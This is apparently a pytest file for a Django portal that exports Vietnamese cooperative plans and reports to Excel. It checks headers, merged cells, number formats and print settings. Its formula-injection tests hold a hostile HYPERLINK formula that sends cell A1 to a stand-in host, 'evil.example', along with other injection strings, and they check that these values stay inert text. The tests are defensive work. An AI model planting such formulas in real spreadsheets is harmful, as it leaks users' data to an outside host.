"""Excel workbooks read back: header block, merged cells, number formats, print setup."""

import io

import pytest
from openpyxl import load_workbook

from documents import excel, render

pytestmark = pytest.mark.django_db


def _wb(data: bytes):
    return load_workbook(io.BytesIO(data))


class TestPlanWorkbook:
    def test_sheets_header_and_cells(self, plan):
        wb = _wb(excel.plan_workbook(render.plan_snapshot(plan)))
        assert wb.sheetnames == ["Chỉ tiêu", "Nhiệm vụ", "Kinh phí"]
        ws = wb["Chỉ tiêu"]
        assert ws["A1"].value == "UBND TỈNH QUẢNG NGÃI"
        assert ws["A2"].value == "LIÊN MINH HỢP TÁC XÃ\nTỈNH QUẢNG NGÃI"
        assert ws["A2"].font.bold and not ws["A1"].font.bold
        assert ws["C1"].value == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
        assert ws["C2"].value == "Độc lập - Tự do - Hạnh phúc"
        assert ws["A3"].value == "Số: 567/KH-LMHTX"
        assert ws["C3"].value == "Quảng Ngãi, ngày 10 tháng 10 năm 2024"
        assert ws["A5"].value == "BIỂU CHỈ TIÊU KẾ HOẠCH"
        merged = {str(r) for r in ws.merged_cells.ranges}
        assert {"A1:B1", "A2:B2", "C1:F1", "A5:F5", "A6:F6"} <= merged
        assert ws["A7"].value.startswith("ĐVT")
        assert [c.value for c in ws[8]] == ["TT", "Chỉ tiêu", "Đơn vị tính", "Năm", "Kế hoạch", "Hiện trạng (năm gốc)"]
        assert ws["B9"].value == "Số hợp tác xã nông nghiệp hoạt động hiệu quả nhóm 1"
        assert ws["E9"].value == 1200 and ws["E9"].number_format == '[$-42A]"≥ "#,##0'
        assert ws["B9"].font.name == "Times New Roman"
        assert ws["B9"].border.left.style == "thin"

    def test_draft_is_marked(self, plan):
        assert _wb(excel.plan_workbook(render.plan_snapshot(plan)))["Chỉ tiêu"]["A4"].value is None
        plan.status = "draft"
        plan.save()
        ws = _wb(excel.plan_workbook(render.plan_snapshot(plan)))["Chỉ tiêu"]
        assert ws["A4"].value == "DỰ THẢO"
        assert ws["A3"].value.replace("\u00a0", " ") == "Số:      /KH-LMHTX"

    def test_print_setup(self, plan):
        ws = _wb(excel.plan_workbook(render.plan_snapshot(plan)))["Chỉ tiêu"]
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.page_setup.orientation == "portrait"
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.print_title_rows == "$8:$8"

    def test_budget_total_formula(self, plan):
        ws = _wb(excel.plan_workbook(render.plan_snapshot(plan)))["Kinh phí"]
        assert ws["C9"].value == 25270000
        assert ws["C10"].value == "=SUM(C9:C9)"


class TestReportWorkbook:
    def test_annex_columns_formats_and_properties(self, report):
        snap = render.obligation_snapshot(report)
        wb = _wb(excel.report_workbook(snap, properties={"DocumentNumber": "12/BC-UBND"}))
        ws = wb["Phụ lục"]
        assert ws["A5"].value == "PHỤ LỤC: BIỂU TỔNG HỢP KẾT QUẢ THỰC HIỆN CHỈ TIÊU"
        assert ws["A6"].value.startswith("(Kèm theo Báo cáo số 12/BC-UBND")
        assert [c.value for c in ws[8]][:8] == [
            "TT",
            "Chỉ tiêu",
            "Đơn vị tính",
            "Năm",
            "Kế hoạch",
            "Thực hiện",
            "% so với kế hoạch",
            "Đánh giá",
        ]
        assert ws["E9"].value == 1200 and ws["E9"].number_format == '[$-42A]"≥ "#,##0'
        assert ws["F9"].value == 1080 and ws["F9"].number_format == excel.FMT_INT
        assert ws["F10"].value == 1081.9 and ws["F10"].number_format == excel.FMT_DEC
        assert ws["G9"].value == 89.9 and ws["G9"].number_format == excel.FMT_PCT  # from the baseline 15
        assert ws.page_setup.orientation == "landscape"
        assert wb.properties.identifier == "12/BC-UBND"
        assert {p.name: p.value for p in wb.custom_doc_props.props}["DocumentNumber"] == "12/BC-UBND"


class TestFormulaInjection:
    """User text in a plan or an annex is a string cell, never a live formula (issue 12)."""

    HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'

    def test_plan_title_and_target_text_stay_text(self, plan):
        plan.title = self.HOSTILE
        plan.save()
        target = plan.targets.order_by("milestone_year", "order", "pk").first()
        target.description = "=1+2"
        target.unit = "+HTX"
        target.save()
        budget = plan.budget_lines.first()
        budget.description = "@SUM(A1)"
        budget.save()
        wb = _wb(excel.plan_workbook(render.plan_snapshot(plan)))
        cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert formulas == ["C10"]  # the portal's own budget total, nothing else
        texts = {c.value: c for c in cells if c.data_type == "s"}
        for value in (self.HOSTILE, "=1+2", "+HTX", "@SUM(A1)"):
            assert value in texts, value
            assert texts[value].quotePrefix

    def test_annex_text_stays_text(self, report):
        snap = render.obligation_snapshot(report)
        snap["annex"]["rows"][0]["description"] = "=1+2"
        snap["annex"]["rows"][0]["achieved_raw"] = "=3+4"
        ws = _wb(excel.report_workbook(snap))["Phụ lục"]
        assert ws["B9"].value == "=1+2" and ws["B9"].data_type == "s"
        assert ws["F9"].value == "=3+4" and ws["F9"].data_type == "s"
        assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
